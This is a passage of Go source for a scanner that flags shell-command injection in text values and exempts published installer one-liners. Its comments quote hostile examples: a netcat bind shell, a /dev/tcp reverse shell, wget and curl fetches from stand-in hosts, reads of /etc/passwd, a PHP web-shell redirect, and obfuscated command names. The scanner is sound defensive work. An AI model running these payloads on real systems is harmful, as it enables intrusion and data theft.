// says the separator was a single pipe; depth bounds the prefix-command recursion.
func (s *cmdScan) cmdAt(i, level int, pipe bool, depth int) (string, bool) {
	v := s.v
	if i >= len(v) || depth > 3 {
		return "", false
	}
	var buf [40]byte
	w := s.readCmdWord(buf[:], i)
	end := w.end
	if w.binPath {
		// /usr/bin/anything: a binary by absolute path.
		if level > posStart {
			return v[i:end], true
		}
		switch s.shellArg(end, cmdWeak) {
		case argNone:
		case argEnd, argSep:
			// "/bin/sh" alone is a path (a login shell, a container's command array);
			// "/usr/bin/id" alone runs recon.
			var buf [24]byte
			base, _ := lowerWord(buf[:], v, strings.LastIndexByte(v[i:end], '/')+i+1, isCmdByte)
			if cmdTable[string(base)]&(cmdBare|cmdAlone|cmdStrong) != 0 || strings.ContainsAny(v[i:end], "?*[") {
				return v[i:end], true
			}
		case argFlag:
			if !s.installerRun(end) {
				return v[i:end], true
			}
		default:
			return v[i:end], true
		}
		return "", false
	}
	if w.exp {
		return s.expansionCommand(i, w, level, pipe, depth)
	}
	word := w.word
	class := cmdTable[string(word)]
	if class == 0 && len(word) > 4 && string(word[len(word)-4:]) == ".exe" {
		// curl.exe, certutil.exe: a Windows program, its /x switches flags
		word = word[:len(word)-4]
		if class = cmdTable[string(word)]; class != 0 {
			class |= cmdWin
		}
	}
	if class == 0 {
		word = trimVersion(word)
		class = cmdTable[string(word)]
	}
	if class == 0 {
		return "", false
	}
	arg := s.shellArg(end, class)
	if arg == argRedirect && !s.plausibleArg(end, arg) {
		arg = argNone
	}
	shellArg := arg == argFlag || arg == argPath || arg == argRedirect || arg == argVar
	alone := arg == argEnd || arg == argSep
	// "127.0.0.1;id #": a comment ends the command as the value's end does.
	ended := alone || arg == argComment && level >= posStrong
	if level == posSubst {
		// $(id), <(cat file); $(CC) and $(MAKE) are make variables.
		if lowerWord := strings.ToLower(v[i:end]) == v[i:end]; lowerWord {
			return v[i:end], true
		}
		return "", false
	}
	if w.obf && level != posAttached && (level > posStart || !alone || class&cmdBare != 0) {
		// c'a't, who\ami, pi``ng: nobody hides a command name in data. At the start of a
		// value a lone word in quotes ("pass'w'd") may be a search for the trick itself.
		return v[i:end], true
	}
	if class&cmdPrefix != 0 && arg != argEnd && arg != argSep {
		// time sh -c ..., nohup ifconfig: judge the next word. Numeric and option
		// arguments of the prefix (timeout 5 cmd, nice -n 5 cmd) are skipped first.
		k := s.skipSpaces(end)
		for k < len(v) && (isDigit(v[k]) || v[k] == '-') {
			for k < len(v) && !isSpace(v[k]) {
				k++
			}
			k = s.skipSpaces(k)
		}
		next := level
		if next == posAttached {
			next = posLoose
		}
		if f, ok := s.cmdAt(k, next, pipe, depth+1); ok {
			return v[i : k+len(f)], true
		}
	}
	switch string(word) {
	case "net":
		if k := s.skipSpaces(end); subcommand(v, k, netSubs) && netArgs(v, k) && (level >= posLoose || level == posStart) {
			return v[i:end], true
		}
	case "netsh":
		if subcommand(v, s.skipSpaces(end), netshSubs) && level != posAttached {
			return v[i:end], true
		}
	case "reg":
		if regCommand(v, s.skipSpaces(end)) && level != posAttached {
			return v[i:end], true
		}
	case "alias":
		return aliasDef(v, i, end, s)
	case "at":
		// at 2:00, at now + 1 minute, at -f job: not "at $g (x.js:1:2)" in a stack trace.
		k := s.skipSpaces(end)
		if level >= posLoose && k > end && (atTime(v, k) || wordAt(v, k, "now") || wordAt(v, k, "midnight") || wordAt(v, k, "noon") || hasPrefixFold(v[k:], "-f ")) {
			return v[i:end], true
		}
		return "", false
	}
	if class&cmdInterp != 0 && arg == argFlag && interpFlag(v, s.skipSpaces(end)) && !(level == posStart && s.installerRun(end)) {
		return v[i:end], true
	}
	if f, ok := s.scriptRedirect(i, end); ok {
		return f, true
	}
	if class&cmdShell != 0 && pipe && (alone || shellArg || arg == argComment) {
		// x|sh, curl ... | sudo bash -: whatever came before runs as code
		return v[i:end], true
	}
	if level == posStart {
		return s.startCommand(i, end, class, arg, alone)
	}
	lower := true
	for k := i; k < end; k++ {
		if 'A' <= v[k] && v[k] <= 'Z' {
			lower = false
			break
		}
	}
	switch {
	case class&cmdStrong != 0 && (level >= posLoose || shellArg || alone):
		return v[i:end], true
	case class&cmdShell != 0 && pipe && (alone || shellArg || arg == argComment):
		// x|sh, echo ... | sh #
		return v[i:end], true
	case class&cmdShell != 0 && level >= posStrong && alone && lower:
		// a=/dev&&(sh)0>$a/tcp/...
		return v[i:end], true
	case class&cmdPipe != 0 && pipe && level >= posLoose && lower && (alone || shellArg):
		return v[i:end], true
	case class&cmdBare != 0 && ended && (level >= posStrong || level == posLoose && lower) && !(s.braces && s.lineBreakBefore(i)):
		return v[i:end], true
	case level == posBreakout && lower && class&(cmdBare|cmdProbe) != 0 && (ended || shellArg || class&cmdBare != 0 && s.shortOption(end)):
		// 127.0.0.1|ps aux, x & ver, 1|set: the probe a scanner appends to a host
		return v[i:end], true
	case level == posBreakout && lower && string(word) == "echo" && s.spaceAt(end):
		// 127.0.0.1;echo q7x2k9: a marker echoed to see whether it comes back
		return v[i:end], true
	case class&cmdBare != 0 && level == posAttached && lower && pipe && end+1 == len(v) && v[end] == '|':
		// "file.html|id|": a pipeline, not the "name|id|email" of a header row
		return v[i:end], true
	case shellArg && level >= posLoose:
		return v[i:end], true
	case shellArg && (arg == argFlag && cmdFlagRun(v, s.skipSpaces(end), class) || arg == argPath && cmdPathArg(v, s.skipSpaces(end))):
		return v[i:end], true
	case arg == argRedirect && level == posAttached:
		return v[i:end], true
	case arg == argNet && class&cmdNet != 0 && level >= posLoose:
		return v[i:end], true
	case arg == argNet && class&cmdNet != 0 && level == posAttached && (class&cmdStrong != 0 || hostBefore(v, i)):
		// 127.0.0.1|curl http://x.example/s.sh: the host a ping form asks for, then a
		// fetch; "a|wget http://..." needs no host before it, wget being no word
		return v[i:end], true
	case arg == argNum && class&(cmdNum|cmdNet) != 0 && level >= posLoose:
		return v[i:end], true
	}
	if level >= posStrong && arg != argEnd && arg != argSep {
		if f, ok := s.commandChain(i, end); ok {
			return f, true
		}
	}
	return "", false
}

// shortOption reports whether the command ending at end takes a short word of
// lower-case letters as its argument, the way ps takes "aux" and who "am i": not
// "id=5", not "who knows".
func (s *cmdScan) shortOption(end int) bool {
	v := s.v
	k := s.skipSpaces(end)
	if k == end {
		return false
	}
	e := k
	for e < len(v) && 'a' <= v[e] && v[e] <= 'z' {
		e++
	}
	return e > k && e-k <= 4 && (e == len(v) || s.spaceAt(e) || strings.IndexByte(";|&\n\r#", v[e]) >= 0)
}

// cmdLineStart returns where the command that ends at i starts: after the last
// separator, line break, backtick or '(' before it.
func cmdLineStart(v string, i int) int {
	return strings.LastIndexAny(v[:i], ";&|\n\r`(") + 1
}

// cmdLineEnd returns where the command that goes on at i ends: at the next separator,
// line break, backtick or ')'.
func cmdLineEnd(v string, i int) int {
	if k := strings.IndexAny(v[i:], ";&|\n\r`)"); k >= 0 {
		return i + k
	}
	return len(v)
}

// installerFetch reports whether v[start:end] is a command that fetches a published
// installer script to standard output, the way install instructions pipe one into a
// shell: curl or wget (after sudo), options, and one https URL on a named host, as in
// "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs", "curl -fsSL
// https://deb.nodesource.com/setup_20.x", "wget -qO- https://raw.githubusercontent.com/...".
// A plain http URL, an address, a second URL, an output file, or an expansion,
// substitution or redirection makes it none: "curl http://203.0.113.5/x".
func (s *cmdScan) installerFetch(start, end int) bool {
	if s.cell {
		return false
	}
	line := s.v[start:end]
	fetch, urls, out := false, 0, false
	for n := 0; ; n++ {
		line = strings.TrimLeft(line, " \t")
		if line == "" {
			break
		}
		k := strings.IndexAny(line, " \t")
		if k < 0 {
			k = len(line)
		}
		tok := strings.Trim(line[:k], `'"`)
		line = line[k:]
		if strings.ContainsAny(tok, "$`<>\\") {
			return false
		}
		switch {
		case !fetch:
			if strings.EqualFold(tok, "sudo") && n == 0 {
				continue
			}
			if !strings.EqualFold(tok, "curl") && !strings.EqualFold(tok, "wget") {
				return false
			}
			fetch = true
		case out:
			if tok != "-" {
				return false // -o file, -O file: saved, not piped
			}
			out = false
		case hasPrefixFold(tok, "https://"):
			host := tok[len("https://"):]
			if k := strings.IndexAny(host, "/:?#"); k >= 0 {
				host = host[:k]
			}
			if !dnsName(host) {
				return false
			}
			urls++
		case strings.Contains(tok, "://"):
			return false
		case tok == "--output" || tok == "--output-document" || tok == "--remote-name":
			out = true
		case len(tok) > 1 && tok[0] == '-' && tok[1] != '-':
			// -qO- and -o- write to standard output; -o and -O take a file next.
			if o := strings.IndexAny(tok, "oO"); o >= 0 {
				switch tok[o+1:] {
				case "":
					out = true
				case "-":
				default:
					return false
				}
			}
		}
	}
	return fetch && urls == 1 && !out
}

// dnsName reports a DNS name with a top-level domain of letters: not an address,
// not a single label.
func dnsName(h string) bool {
	dot := strings.LastIndexByte(h, '.')
	if dot <= 0 || len(h)-dot-1 < 2 {
		return false
	}
	for k := 0; k < len(h); k++ {
		if c := h[k]; !isAlnum(c) && c != '-' && c != '.' || k > dot && !isAlpha(c) {
			return false
		}
	}
	return true
}

// installerRun reports whether the interpreter flag after end runs a fetched installer
// and nothing else: -c "$(curl -fsSL https://raw.githubusercontent.com/.../install.sh)",
// Homebrew's one-liner.
func (s *cmdScan) installerRun(end int) bool {
	if s.cell {
		return false
	}
	v := s.v
	k := s.skipSpaces(end)
	if !strings.HasPrefix(v[k:], "-c") {
		return false
	}
	k = s.skipSpaces(k + 2)
	var q byte
	if k < len(v) && (v[k] == '"' || v[k] == '\'') {
		q = v[k]
		k++
	}
	if !strings.HasPrefix(v[k:], "$(") {
		return false
	}
	close := strings.IndexByte(v[k:], ')')
	if close < 0 || !s.installerFetch(k+2, k+close) {
		return false
	}
	e := k + close + 1
	if q != 0 {
		if e >= len(v) || v[e] != q {
			return false
		}
		e++
	}
	return e == len(v) || isSpace(v[e]) || v[e] == '`'
}

// substArgument reports whether the substitution "$(" at i is an argument in a command
// line its writer typed: the line, or the inline code span, it stands on opens with a
// word or path and passes an option before it, with no separator in between
// ("docker run -v $(pwd):/app", "chown -R $(id -u) .", `bash -c "$(curl ...)"`).
// Injected substitutions stand alone or after data: "$(id)", "x$(sleep 5)". What the
// substitution holds is judged apart (infoSubst, installerSubst): an argument can run
// anything ("a -b $(wget -q https://evil.example/x.sh)").
func substArgument(v string, i int) bool {
	seg := v[strings.LastIndexAny(v[:i], "\n\r`")+1 : i]
	k := skipSpaces(seg, 0)
	if k >= len(seg) || !isAlpha(seg[k]) && seg[k] != '/' || strings.ContainsAny(seg, ";|&") {
		return false
	}
	return strings.Contains(seg, " -")
}

// infoSubst reports whether the substitution "$(" at i holds one read-only command that
// prints a fact about the machine, the user or the checkout, the way command lines in
// docs take them as arguments: $(pwd), $(id -u), $(id -g), $(whoami), $(date +%F),
// $(uname -m), $(hostname -s), $(arch), $(nproc), $(git rev-parse --short HEAD),
// $(git describe --tags), $(git branch --show-current), $(basename "$PWD"),
// $(dirname "$0"), $(readlink -f x), $(which node), $(command -v go). Nothing else is:
// a second command, pipe, redirection, subshell or backtick in it; a command that
// fetches, connects, runs code, sleeps or reads a file (wget, curl, nc, sh, python,
// sleep, cat, even "cat VERSION"); $(id) without -u/-g, whose uid=0(root) output is a
// probe's; options that change something or read a file ($(date -s ...), $(date -f
// file), $(hostname evil)). A substitution nested in an argument
// ($(dirname "$(readlink -f "$0")")) is judged by itself where it stands.
func infoSubst(v string, i int) bool {
	var (
		args  []string
		tok   []byte
		quote byte
		in    bool // inside a token
	)
	k := i + 2
	for ; ; k++ {
		if k >= len(v) || len(args) > 8 {
			return false
		}
		c := v[k]
		switch {
		case quote == '\'':
			if c == '\'' {
				quote = 0
			} else {
				tok = append(tok, c)
			}
			continue
		case c == '$' && k+1 < len(v) && v[k+1] == '(':
			// a nested substitution: an argument here, judged by itself
			e := closeParen(v, k+1)
			if e < 0 {
				return false
			}
			tok, in, k = append(tok, 'X'), true, e
			continue
		case c == '"':
			quote ^= '"'
			in = true
			continue
		case quote == 0 && c == ')':
		case quote == 0 && (c == ' ' || c == '\t'):
			if in {
				if len(tok) == 0 {
					return false
				}
				args, tok, in = append(args, string(tok)), tok[:0], false
			}
			continue
		case c == '\'' && quote == 0:
			quote, in = c, true
			continue
		case isAlnum(c) || strings.IndexByte("-_.:=+%/^~@,{}$ ", c) >= 0:
			tok, in = append(tok, c), true
			continue
		default:
			// ; | & < > ( ` and line breaks: more than one read-only command
			return false
		}
		break
	}
	if in {
		args = append(args, string(tok))
	}
	if len(args) == 0 || args[len(args)-1] == "" {
		return false
	}
	name, args := strings.ToLower(args[0]), args[1:]
	if j := strings.LastIndexByte(name, '/'); j >= 0 && slices.Contains(binDirs, name[:j+1]) {
		name = name[j+1:]
	}
	flagsOf := func(letters string) bool { // every argument is a flag of these letters
		for _, a := range args {
			if len(a) < 2 || a[0] != '-' || strings.Trim(a[1:], letters) != "" {
				return false
			}
		}
		return true
	}
	switch name {
	case "pwd":
		return flagsOf("LP")
	case "whoami", "arch", "nproc":
		return len(args) == 0 || name == "nproc" && len(args) == 1 && args[0] == "--all"
	case "uname":
		return flagsOf("smrnpio")
	case "hostname":
		return flagsOf("sfidIA")
	case "id":
		// id -u, id -gn, id -u alice; not id, not id alice
		flag := false
		for n, a := range args {
			switch {
			case len(a) > 1 && a[0] == '-' && strings.Trim(a[1:], "ugGnr") == "":
				flag = true
			case n == len(args)-1 && a[0] != '-':
			default:
				return false
			}
		}
		return flag
	case "date":
		for n := 0; n < len(args); n++ {
			switch a := args[n]; {
			case a[0] == '+', a == "-u", a == "--utc", a == "-R", strings.HasPrefix(a, "-I"),
				strings.HasPrefix(a, "--iso-8601"), strings.HasPrefix(a, "--rfc-3339="), strings.HasPrefix(a, "--date="):
			case a == "-d" && n+1 < len(args):
				n++
			default:
				return false
			}
		}
		return true
	case "git":
		if len(args) == 0 {
			return false
		}
		switch args[0] {
		case "rev-parse", "describe":
			return true
		case "branch":
			return len(args) == 2 && args[1] == "--show-current"
		}
		return false
	case "basename", "dirname", "which":
		return len(args) > 0
	case "readlink", "realpath":
		return len(args) > 0 && args[len(args)-1][0] != '-'
	case "command":
		return len(args) == 2 && args[0] == "-v"
	}
	return false
}

// closeParen returns the index of the ')' that closes the '(' at i, skipping quoted
// text and nested parentheses, or -1.
func closeParen(v string, i int) int {
	depth := 0
	var quote byte
	for k := i; k < len(v); k++ {
		switch c := v[k]; {
		case quote != 0:
			if c == quote {
				quote = 0
			}
		case c == '\'' || c == '"':
			quote = c
		case c == '(':
			depth++
		case c == ')':
			depth--
			if depth == 0 {
				return k
			}
		}
	}
	return -1
}

// installerSubst reports whether the substitution "$(" at i is the one a shell's -c runs
// in a published installer's one-liner: /bin/bash -c "$(curl -fsSL https://...)" (see
// installerRun).
func (s *cmdScan) installerSubst(i int) bool {
	v := s.v
	k := i
	if k > 0 && (v[k-1] == '"' || v[k-1] == '\'') {
		k--
	}
	for k > 0 && (v[k-1] == ' ' || v[k-1] == '\t') {
		k--
	}
	if k < 3 || v[k-2:k] != "-c" || v[k-3] != ' ' && v[k-3] != '\t' {
		return false
	}
	e := k - 2
	for e > 0 && (v[e-1] == ' ' || v[e-1] == '\t') {
		e--
	}
	b := strings.LastIndexAny(v[:e], " \t/;|&\n\r`(") + 1
	if b >= e || cmdTable[strings.ToLower(v[b:e])]&cmdShell == 0 {
		return false
	}
	return s.installerRun(e)
}

// hostBefore reports whether what precedes the separator before v[i] is the whole
// value's opening host name or IPv4 address (127.0.0.1|..., example.org&...): the
// input of a network tool form that a command was attached to.
func hostBefore(v string, i int) bool {
	if i < 2 {
		return false
	}
	h := strings.TrimSpace(v[:i-1])
	dots := 0
	for k := 0; k < len(h); k++ {
		switch c := h[k]; {
		case c == '.':
			dots++
		case isAlnum(c) || c == '-':
		default:
			return false
		}
	}
	return dots > 0 && len(h) >= 3
}

// atTime reports a time of day at v[i] as the at command takes it: 2:00, 14:30, 5pm.
func atTime(v string, i int) bool {
	j := i
	for j < len(v) && isDigit(v[j]) && j-i < 2 {
		j++
	}
	if j == i {
		return false
	}
	if j+2 < len(v) && v[j] == ':' && isDigit(v[j+1]) && isDigit(v[j+2]) {
		j += 3
	}
	if hasPrefixFold(v[j:], "am") || hasPrefixFold(v[j:], "pm") {
		j += 2
	}
	return j > i+1 && (j == len(v) || !isAlnum(v[j])) && (j-i > 2 || v[i+1] == ':' || !isDigit(v[i+1]))
}

// startCommand judges a listed command at the start of the value (or of a prose line):
// only a command line that is hostile by itself matches (see the doc comment).
func (s *cmdScan) startCommand(i, end int, class uint16, arg int, alone bool) (string, bool) {
	v := s.v
	shellArg := arg == argFlag || arg == argPath || arg == argRedirect || arg == argVar
	switch {
	case class&cmdAlone != 0 && alone:
		// whoami, ifconfig; ...
		return v[i:end], true
	case class&cmdHostile != 0 && (shellArg || arg == argNet && class&cmdNet != 0 && s.fetchesCode(end)) &&
		!(class&cmdNet != 0 && s.installerFetch(i, cmdLineEnd(v, end))):
		return v[i:end], true
	case class&cmdNet != 0 && arg == argFlag && s.netShell(end):
		// nc -lvvp 4444 -e /bin/sh
		return v[i:end], true
	case (arg == argFlag || arg == argPath) && s.systemPathArg(end):
		// cat /etc/passwd, ls -l /root, type C:\Windows\win.ini
		return v[i:end], true
	}
	if arg == argSep || arg == argFlag || arg == argPath || arg == argNone {
		if f, ok := s.commandChain(i, end); ok {
			return f, true
		}
	}
	return "", false
}

// expansionCommand judges a command word made only of shell expansions: "$SHELL -c",
// "$a -nlvp 555" after "a=nc", "$c1$c2$c3" after "c1=c;c2=a;c3=t", or an empty
// expansion written before the real command ("$u cat file").
func (s *cmdScan) expansionCommand(i int, w cmdWord, level int, pipe bool, depth int) (string, bool) {
	v := s.v
	end := w.end
	if level <= posAttached && level != posStart {
		return "", false
	}
	k := s.skipSpaces(end)
	if k < len(v) && v[k] == '-' {
		switch strings.ToLower(w.expName) {
		case "shell", "bash", "sh", "zsh", "0":
			if interpFlag(v, k) {
				return v[i:k], true
			}
		}
		if level > posStart && s.hasAssignment(w.expName) {
			return v[i:k], true
		}
	}
	if level >= posStrong && (k == len(v) || v[k] == '$') && s.hasAssignment(w.expName) {
		return v[i:end], true
	}
	if k > end && k < len(v) && isAlpha(v[k]) && level > posStart {
		// "$u cat file": the expansion is empty, the command follows.
		var buf [40]byte
		nw := s.readCmdWord(buf[:], k)
		if cmdTable[string(nw.word)] != 0 {
			return v[i:nw.end], true
		}
		return s.cmdAt(k, level, pipe, depth+1)
	}
	return "", false
}

// hasAssignment reports a shell assignment "name=" of the given variable in the value.
func (s *cmdScan) hasAssignment(name string) bool {
	v := s.v
	if name == "" || !isAlpha(name[0]) && name[0] != '_' || s.assigns >= 8 {
		return false
	}
	s.assigns++
	for off := 0; off < len(v); {
		j := strings.Index(v[off:], name+"=")
		if j < 0 {
			return false
		}
		j += off
		if j == 0 || !isIdent(v[j-1]) && v[j-1] != '$' && v[j-1] != '{' {
			return true
		}
		off = j + 1
	}
	return false
}

// trimVersion drops a version suffix from a command name: python3.10, gcc10.1, perl5.
func trimVersion(w []byte) []byte {
	n := len(w)
	for n > 0 && (isDigit(w[n-1]) || w[n-1] == '.') {
		n--
	}
	if n < 2 || n == len(w) {
		return w
	}
	return w[:n]
}

// skipSpaces skips whitespace, and '+' in a value without spaces.
func (s *cmdScan) skipSpaces(i int) int {
	v := s.v
	for i < len(v) && (isSpace(v[i]) || s.plus && v[i] == '+') {
		i++
	}
	return i
}

// spaceAt reports whether v[i] separates words: whitespace, or '+' in a value without
// spaces.
func (s *cmdScan) spaceAt(i int) bool {
	return i < len(s.v) && (isSpace(s.v[i]) || s.plus && s.v[i] == '+')
}

// lineBreakBefore reports whether the command at i is the first word of a line.
func (s *cmdScan) lineBreakBefore(i int) bool {
	k := i - 1
	for k >= 0 && (s.v[k] == ' ' || s.v[k] == '\t') {
		k--
	}
	return k >= 0 && (s.v[k] == '\n' || s.v[k] == '\r')
}

// plausibleArg reports whether a redirection or variable argument after a command word
// is one a shell user writes: a redirection into a file name, a path, a descriptor or
// /dev/..., not ">oLjPc).#" in a random token.
func (s *cmdScan) plausibleArg(end, arg int) bool {
	if arg != argRedirect {
		return true
	}
	v := s.v
	i := s.skipSpaces(end)
	for i < len(v) && (v[i] == '<' || v[i] == '>' || v[i] == '&') {
		i++
	}
	i = s.skipSpaces(i)
	if i >= len(v) {
		return false
	}
	j := i
	for j < len(v) && (isAlnum(v[j]) || strings.IndexByte("._-/~$%{}", v[j]) >= 0) {
		j++
	}
	if j == i {
		return v[i] == '\'' || v[i] == '"' || v[i] == '(' // <<<'code', <(cmd)
	}
	if j < len(v) && v[j] == ')' {
		// $(cat</etc/passwd): a path closes a substitution, a random token does not.
		return strings.IndexByte("/.~$", v[i]) >= 0
	}
	return j == len(v) || isSpace(v[j]) || strings.IndexByte(";|&`\n\r'\"", v[j]) >= 0
}

// systemPathArg reports whether one of the arguments of the command ending at end (up
// to the next separator, past its flags) is a system location: /etc/..., /proc, /root,
// /bin, ~/.ssh, C:\Windows, %SYSTEMROOT%, or the root itself.
func (s *cmdScan) systemPathArg(end int) bool {
	v := s.v
	i := end
	for n := 0; n < 6 && i < len(v); n++ {
		i = s.skipSpaces(i)
		j := i
		for j < len(v) && !isSpace(v[j]) && !(s.plus && v[j] == '+') && v[j] != ';' && v[j] != '|' && v[j] != '&' && v[j] != '`' {
			j++
		}
		if j == i {
			return false
		}
		if systemPath(strings.Trim(v[i:j], `'"`)) {
			return true
		}
		if j < len(v) && (v[j] == ';' || v[j] == '|' || v[j] == '&' || v[j] == '`') {
			return false
		}
		i = j
	}
	return false
}

// unixTopDirs are the top directories of a Unix system that data rarely names.
var unixTopDirs = []string{"etc", "proc", "root", "dev", "sys", "boot", "bin", "sbin", "usr", "var", "tmp", "home", "opt", "lib"}

// sensitiveTopDirs are those whose listing or reading is reconnaissance by itself.
var sensitiveTopDirs = []string{"etc", "proc", "root", "dev", "sys", "boot", "home"}

func systemPath(tok string) bool {
	switch {
	case tok == "/" || tok == "/*":
		return true
	case len(tok) > 1 && tok[0] == '/':
		name := tok[1:]
		if k := strings.IndexByte(name, '/'); k >= 0 {
			name = name[:k]
		}
		for _, d := range sensitiveTopDirs {
			if strings.EqualFold(name, d) || strings.ContainsAny(name, "?*[") && globFits(name, d) {
				return true
			}
		}
	case strings.HasPrefix(tok, "~/."):
		return true
	case len(tok) > 2 && isAlpha(tok[0]) && tok[1] == ':' && (tok[2] == '\\' || tok[2] == '/'):
		rest := tok[3:]
		return rest == "" || hasPrefixFold(rest, "windows") || hasPrefixFold(rest, "users") || hasPrefixFold(rest, "boot.ini") || hasPrefixFold(rest, "inetpub") || hasPrefixFold(rest, "documents and settings") || hasPrefixFold(rest, "programdata")
	case len(tok) > 2 && tok[0] == '%':
		return hasPrefixFold(tok, "%systemroot%") || hasPrefixFold(tok, "%windir%") || hasPrefixFold(tok, "%userprofile%") || hasPrefixFold(tok, "%temp%") || hasPrefixFold(tok, "%appdata%")
	}
	return false
}

// fetchesCode reports a network command whose arguments save or run what it fetches:
// -O/-o/--output, a pipe into a shell, or "| iex".
func (s *cmdScan) fetchesCode(end int) bool {
	v := s.v
	rest := v[end:]
	if k := strings.IndexAny(rest, ";&\n"); k >= 0 {
		rest = rest[:k]
	}
	if strings.Contains(rest, " -O") || strings.Contains(rest, " -o ") || strings.Contains(rest, "--output") || strings.Contains(rest, " -outfile") {
		return true
	}
	if k := strings.IndexByte(rest, '|'); k >= 0 {
		var buf [40]byte
		w := s.readCmdWord(buf[:], s.skipSpaces(k+1))
		return cmdTable[string(w.word)]&(cmdShell|cmdInterp) != 0 || string(w.word) == "iex"
	}
	return false
}

// netShell reports a network tool run with -e or -c: a bind or reverse shell.
func (s *cmdScan) netShell(end int) bool {
	v := s.v
	rest := v[end:]
	if k := strings.IndexAny(rest, ";|&\n"); k >= 0 {
		rest = rest[:k]
	}
	return strings.Contains(rest, " -e ") || strings.Contains(rest, " -c ") || strings.HasSuffix(rest, " -e") || strings.Contains(rest, "--exec")
}

// scriptRedirect matches a command whose output is redirected into a script file that a
// web server would run: echo "<?php ..." > shell.php.
func (s *cmdScan) scriptRedirect(i, end int) (string, bool) {
	v := s.v
	var quote byte
	for k := end; k < len(v) && k < end+512; k++ {
		c := v[k]
		switch {
		case quote != 0:
			if c == quote {
				quote = 0
			}
			continue
		case c == '"' || c == '\'':
			quote = c
			continue
		case c == ';' || c == '|' || c == '&' || c == '\n':
			return "", false
		case c != '>':
			continue
		}
		j := k + 1
		if j < len(v) && v[j] == '>' {
			j++
		}
		j = s.skipSpaces(j)
		e := j
		for e < len(v) && (isAlnum(v[e]) || strings.IndexByte("._-/~", v[e]) >= 0) {
			e++
		}
		name := v[j:e]
		for _, ext := range redirectScriptExts {
			if len(name) > len(ext) && hasSuffixFold(name, ext) {
				return v[i:e], true
			}
		}
	}
	return "", false
}

// redirectScriptExts are the files a shell redirection writes to plant code: what a web
// server runs (see scriptExts in backdoor.go), and shell and Python scripts.
var redirectScriptExts = []string{".php", ".phtml", ".php5", ".jsp", ".jspx", ".asp", ".aspx", ".ashx", ".cgi", ".pl", ".py", ".sh", ".cfm"}

// commandChain matches a command line followed by a separator and another listed
// command that takes an argument: "cd /;cd etc;column passwd", "cat x && rm -rf y".
// Each of the two commands must carry an argument, so "date;time" and "red;green"
// (data) pass.
func (s *cmdScan) commandChain(i, end int) (string, bool) {
	v := s.v
	if !s.spaceAt(end) || s.shellArg(end, cmdWeak) == argEnd {
		return "", false
	}
	k := end
	for k < len(v) && v[k] != ';' && v[k] != '&' && v[k] != '|' && v[k] != '\n' {
		k++
	}
	if k >= len(v) || k == end {
		return "", false
	}
	sep := k
	for k < len(v) && (v[k] == ';' || v[k] == '&' || v[k] == '|') {
		k++
	}
	if k-sep == 1 && v[sep] != ';' {
		return "", false // "a & b", "a|b": not a chain of commands
	}
	if k < len(v) && v[k] == ' ' {
		return "", false // prose puts a space after its semicolons
	}
	var buf [40]byte
	w := s.readCmdWord(buf[:], k)
	if len(w.word) == 0 || cmdTable[string(w.word)] == 0 || !s.spaceAt(w.end) {
		return "", false
	}
	if a := s.shellArg(w.end, cmdWeak); a == argEnd || a == argSep {
		return "", false
	}
	return v[i:w.end], true
}

// cmdPathArg reports whether the path argument after a command word names a place on a
// system rather than, say, "and/or": an absolute path of two elements or more, a top
// directory of the system, a home or relative path, or a drive path.
func cmdPathArg(v string, i int) bool {
	if i >= len(v) {
		return false
	}
	j := i
	for j < len(v) && !isSpace(v[j]) && v[j] != ';' && v[j] != '|' && v[j] != '&' {
		j++
	}
	tok := v[i:j]
	switch {
	case len(tok) > 2 && isAlpha(tok[0]) && tok[1] == ':' && (tok[2] == '\\' || tok[2] == '/'):
		return true
	case strings.HasPrefix(tok, "~/") || strings.HasPrefix(tok, "./") || strings.HasPrefix(tok, "../") || strings.HasPrefix(tok, "\\\\"):
		return true
	case len(tok) > 1 && tok[0] == '/':
		if strings.IndexByte(tok[1:], '/') > 0 {
			return true
		}
		for _, d := range unixTopDirs {
			if strings.EqualFold(tok[1:], d) {
				return true
			}
		}
	case len(tok) > 1 && tok[0] == '%':
		return true
	}
	return false
}

// readCmdWord reads the command word at v[i:] into buf the way a shell would see it:
// quotes, backslashes, empty expansions and empty substitutions inside it are dropped,
// ${IFS} and $IFS end it.
func (s *cmdScan) readCmdWord(buf []byte, i int) cmdWord {
	v := s.v
	if i < len(v) && v[i] == '/' || hasPrefixFold(v[i:], "bin/") || hasPrefixFold(v[i:], "sbin/") ||
		hasPrefixFold(v[i:], "usr/bin/") || hasPrefixFold(v[i:], "usr/sbin/") {
		// A path: the command is its last element.
		j := i
		for j < len(v) && !isSpace(v[j]) && !(s.plus && v[j] == '+') && !strings.ContainsRune(";|&`)<>'\"", rune(v[j])) {
			j++
		}
		path := v[i:j]
		if path[0] == '/' {
			for _, d := range binDirs {
				if hasPrefixFold(path, d) && len(path) > len(d) {
					return cmdWord{end: j, binPath: true}
				}
			}
			if globBinDir(path) {
				return cmdWord{end: j, binPath: true}
			}
		}
		last := strings.LastIndexByte(path, '/')
		w, _ := lowerWord(buf, path, last+1, isCmdByte)
		// bin/visudo, and usr/bin/id after a separator (|usr/bin/id), run from /; a
		// value that is only usr/bin/python3 is a path in a file browser.
		if path[0] != '/' && cmdTable[string(w)] != 0 && (strings.Count(path, "/") == 1 || i > 0 && hasPrefixFold(path, "usr/") && strings.Count(path, "/") == 2) {
			return cmdWord{end: j, binPath: true}
		}
		return cmdWord{word: w, end: j}
	}
	n := 0
	j := i
	obf := false
	exps := 0
	expName := ""
	quotes := 0
	for j < len(v) {
		c := v[j]
		switch {
		case isCmdByte(c) && !(s.plus && c == '+'):
			if n < len(buf) {
				buf[n] = lowerASCII(c)
				n++
			}
			j++
			continue
		case c == '\'' || c == '"':
			// ti''me, c"a"t, 'rmt' — but not a quote that opens a sentence.
			k := j + 1
			for k < len(v) && v[k] == c {
				k++
			}
			if k-j >= 2 || j == i || (k < len(v) && isCmdByte(v[k])) || n > 0 {
				if n > 0 && k < len(v) && isCmdByte(v[k]) {
					quotes += k - j
					if quotes >= 2 {
						obf = true
					}
				}
				j = k
				continue
			}
		case c == '\\' && j+1 < len(v) && isAlpha(v[j+1]):
			if n > 0 && (v[j+1] == 'n' || v[j+1] == 'r') && (j+2 == len(v) || !isAlpha(v[j+2])) {
				break // "id\n": a line break written as text ends the word
			}
			obf = true // who\ami, and \ls, which bypasses aliases
			j++
			continue
		case c == '`' && j+1 < len(v) && v[j+1] == '`' && n > 0:
			// wh``oami: an empty substitution
			j += 2
			obf = true
			continue
		case (c == '$' || c == '<' || c == '>') && j+2 < len(v) && v[j+1] == '(' && v[j+2] == ')' && n > 0:
			// pi$()ng, pi<()ng
			j += 3
